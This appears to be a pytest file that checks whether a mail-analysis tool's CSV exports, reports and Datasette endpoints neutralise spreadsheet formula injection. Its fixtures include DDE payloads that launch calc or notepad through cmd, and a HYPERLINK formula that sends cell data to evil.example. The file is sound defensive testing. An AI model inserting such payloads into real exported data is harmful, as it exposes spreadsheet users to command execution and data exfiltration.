"""CSV formula injection: a subject or a name that a spreadsheet would run as a formula
(`=cmd|' /C calc'!A0`, and cells beginning with +, -, @, a tab or a carriage return) reaches
no CSV as it is — not `export`, not `report --format csv`, not any CSV Datasette serves — but
with a leading `'`; numbers keep their sign, and JSON keeps the text as it is."""

from __future__ import annotations

import csv
import io
import re
import urllib.request
from pathlib import Path
from urllib.parse import quote

import pytest
from conftest import make_email, rows, run_cli

from backchannel.publish.local import serving
from backchannel.spreadsheet import safe_cell

# Subjects and display names as they can come in headers (a header's leading tab or line
# break is folding, not text: cells starting with those come from SQL below).
RISKY = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
]
ROSTER = """\
officials:
  - name: Dana Whitfield
    emails: [dana@district.example]
organizations:
  - name: "@Home Parents"
    domains: [homeparents.example]
"""


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    work = tmp_path_factory.mktemp("csv")
    dump = work / "dump"
    dump.mkdir()
    for n, text in enumerate(RISKY):
        (dump / f"{n}.eml").write_bytes(
            make_email(
                sender=f'"{text}" <p{n}@homeparents.example>',
                to="Dana Whitfield <dana@district.example>",
                subject=text,
                message_id=f"<risky-{n}@homeparents.example>",
                date=f"Tue, 04 Mar 2025 09:{10 + n}:00 -0800",
            )
        )
    (work / "roster.yaml").write_text(ROSTER)
    db = work / "c.db"
    run_cli("ingest", dump, "--db", db)
    run_cli("analyze", "--db", db, "--roster", work / "roster.yaml")
    return work, db


def test_the_corpus_holds_them_as_they_came(corpus):
    _, db = corpus
    subjects = {r[0] for r in rows(db, "select subject from messages")}
    assert "=cmd|' /C calc'!A0" in subjects and "@SUM(1+1)*cmd|' /C calc'!A0" in subjects
    assert {r[0] for r in rows(db, "select name from persons")} >= {"=cmd|' /C calc'!A0"}


def test_a_cell_is_made_safe_only_when_a_spreadsheet_would_run_it():
    for text in RISKY + ["=", "-", "+x", "@x", "\tx", "\rx", " =1+1", "\n@x", "\uff1dcmd"]:
        assert safe_cell(text) == "'" + text, text
    for value in ["-3", "+1.5e3", "-.5", "Re: budget", "a=b", "", None, -3, 2.5, "x-y"]:
        assert safe_cell(value) == value, value


def _risky_cells(table: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a sign first (spaces aside), and not a number."""
    return [
        c
        for row in table
        for c in row
        if c.lstrip(" \n")[:1] in tuple("=+-@\t\r") and not re.fullmatch(r"[+-]?[\d.]+", c)
    ]


def test_export_csv(corpus, tmp_path):
    _, db = corpus
    out = tmp_path / "graph"
    run_cli("export", "--db", db, "--format", "csv", out)
    nodes = list(csv.reader((out / "nodes.csv").open(newline="", encoding="utf-8")))
    edges = list(csv.reader((out / "edges.csv").open(newline="", encoding="utf-8")))
    labels = {row[1] for row in nodes[1:]}
    assert "'=cmd|' /C calc'!A0" in labels and "'@SUM(1+1)*cmd|' /C calc'!A0" in labels
    for table in (nodes, edges):
        assert _risky_cells(table) == [], _risky_cells(table)
    assert all(row[-1].isdigit() for row in edges[1:])  # counts stay numbers


def test_report_csv(corpus):
    work, db = corpus
    table = list(csv.reader(io.StringIO(run_cli("report", "--db", db, "--format", "csv"))))
    assert table[1][:3] == ["'@Home Parents", "Dana Whitfield", str(len(RISKY))]
    assert _risky_cells(table) == []


def _get(url: str) -> str:
    with urllib.request.urlopen(url, timeout=30) as r:
        return r.read().decode("utf-8")


def test_datasette_csv_of_tables_queries_and_streams(corpus):
    """Through a real `backchannel serve`: a table's CSV, streamed and downloaded, a SQL
    query's and a canned query's; JSON keeps the subjects as they are."""
    _, db = corpus
    sql = quote(
        "select subject, -3 as n, 'x' || subject as prefixed, char(9) || '=1+1' as tab, "
        "char(13) || '=1+1' as cr, ' @x' || char(10) || 'y' as spaced from messages order by 1"
    )
    with serving(Path(db)) as base:
        pages = {
            "table": _get(f"{base}/c/messages.csv?_col=subject&_size=max"),
            "stream": _get(f"{base}/c/messages.csv?_col=subject&_stream=1"),
            "download": _get(f"{base}/c/messages.csv?_col=subject&_dl=1"),
            "sql": _get(f"{base}/c.csv?sql={sql}"),
            "persons": _get(f"{base}/c/persons.csv?_size=max"),
        }
        data = _get(f"{base}/c/messages.json?_col=subject&_shape=array&_size=max")
    for name, text in pages.items():
        table = list(csv.reader(io.StringIO(text)))
        assert _risky_cells(table) == [], (name, _risky_cells(table))
        cells = {c for row in table for c in row}
        if name != "persons":
            assert "'=cmd|' /C calc'!A0" in cells, name
            assert len(table) == len(RISKY) + 1, name
    sql_rows = list(csv.reader(io.StringIO(pages["sql"])))
    assert {row[1] for row in sql_rows[1:]} == {"-3"}  # a number keeps its sign
    assert "x=cmd|' /C calc'!A0" in {row[2] for row in sql_rows}  # not at the start: as is
    # A tab, a carriage return, spaces before a sign; a line break inside a cell keeps it one.
    assert {tuple(row[3:]) for row in sql_rows[1:]} == {("'\t=1+1", "'\r=1+1", "' @x\ny")}
    assert "=cmd|' /C calc'!A0" in data  # JSON is not a spreadsheet: as it is
